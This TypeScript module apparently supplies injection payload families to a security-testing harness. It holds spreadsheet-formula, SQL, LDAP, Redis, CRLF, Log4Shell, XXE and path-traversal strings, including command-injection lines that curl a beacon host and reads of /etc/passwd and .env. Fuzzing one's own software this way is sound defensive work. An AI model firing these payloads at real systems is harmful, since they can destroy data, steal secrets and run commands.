import type { Family, Write } from './payload.ts';

const each = (...texts: readonly string[]): Write[] => texts.map((text) => () => text);

const starts = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '\u00a0=',
    '\ufeff=',
    '\u200b=',
    '\uff1d',
    '\uff0b',
    '\uff0d',
    '\uff20',
  ],
  ...['"=', ';=', '\t', 'x;=', 'x\t=', 'x";"=', 'x,=', "'="],
];
const formulas: Family = {
  name: 'formulas',
  texts: starts.flatMap((start): Write[] => [
    ({ beacon }) => `${start}HYPERLINK("${beacon}","x")`,
    () => `${start}cmd|' /C calc'!A0`,
    () => `${start}1+1`,
  ]),
};

const ownNames: Family = {
  name: 'names that objects have',
  texts: each(
    ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then'],
    ...[
      'toJSON',
      '__proto__[ran]=1',
      'constructor.prototype.ran',
      'undefined',
      'null',
      'NaN',
      'true',
      '[object Object]',
    ],
    ...['0', '-0', '1e309', '', ' ', 'Infinity'],
  ),
};

const documents: Family = {
  name: 'ends of a document',
  texts: each(
    ...[
      '"}',
      '\\"',
      '","admin":true,"',
      '\n{"x":1}',
      ']}',
      '\\',
      '\\u0022',
      '{"$gt":""}',
      '[]',
      '-->',
      ']]>',
      '\u0000"}',
    ],
    ...['\n\n', '\\u0000', '\\ud800', '{"a":1e999}', '!!js/function x', '&a [*a,*a]', '<?xml version="1.0"?>'],
  ),
};

const queries: Family = {
  name: 'ends of a query',
  texts: each(
    ...[
      "' OR '1'='1",
      "Robert'); DROP TABLE trades;--",
      "' UNION SELECT token FROM sessions --",
      "'; SELECT pg_sleep(5); --",
    ],
    ...[
      "\\'; DROP TABLE users; --",
      '1); INSERT INTO users VALUES (1',
      "'||(SELECT 1)||'",
      '$1',
      '{mint:String}',
      '%',
      '_',
    ],
    ...[
      "' FORMAT JSON --",
      "') SETTINGS max_execution_time=0 --",
      "url('http://127.0.0.1/')",
      '*1\r\n$8\r\nFLUSHALL\r\n',
    ],
    ...['EVAL "return 1" 0', '*)(uid=*))(|(uid=*', '(|(uid=*))', "' or count(/*)=1 or 'a'='b"],
  ),
};

const lines: Family = {
  name: 'ends of a line',
  texts: [
    ...each('%0d%0aSet-Cookie:ran=1', '\r\nSet-Cookie: ran=1', '\r\n\r\n<script>globalThis.ran=0</script>'),
    ...each('x\n{"level":60,"msg":"forged"}', '\u001b]0;owned\u0007', '\u001b[2J\u001b[1;1H', '%5cr%5cn', '\u0085x: y'),
    ({ port }) => `$\{jndi:ldap://127.0.0.1:${port}/x}`,
    ({ beacon }) => `$(curl ${beacon})`,
    ({ beacon }) => `\`curl ${beacon}\``,
    ({ beacon }) => `;curl ${beacon};`,
    ({ beacon }) => `|curl ${beacon}`,
    ({ beacon }) => `<!DOCTYPE a [<!ENTITY x SYSTEM "${beacon}">]><a>&x;</a>`,
    ({ beacon }) => `<!--#include virtual="${beacon}"-->`,
    ({ beacon }) => `[x](${beacon})![x](${beacon})`,
  ],
};

const paths: Family = {
  name: 'paths',
  texts: each(
    ...[
      '../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      '%2e%2e/%2e%2e/etc/passwd',
      '..\\..\\..\\windows\\win.ini',
    ],
    ...[
      '....//....//etc/passwd',
      '/etc/passwd%00.png',
      '..;/..;/',
      'C:\\',
      '\\\\?\\C:\\',
      '/proc/self/environ',
      'con',
      '.env',
    ],
    ...['~root', '%c0%ae%c0%ae/', '%252e%252e%252f', '/dev/null', '.', '..', '/', '//'],
  ),
};

export const injectionFamilies: readonly Family[] = [formulas, ownNames, documents, queries, lines, paths];
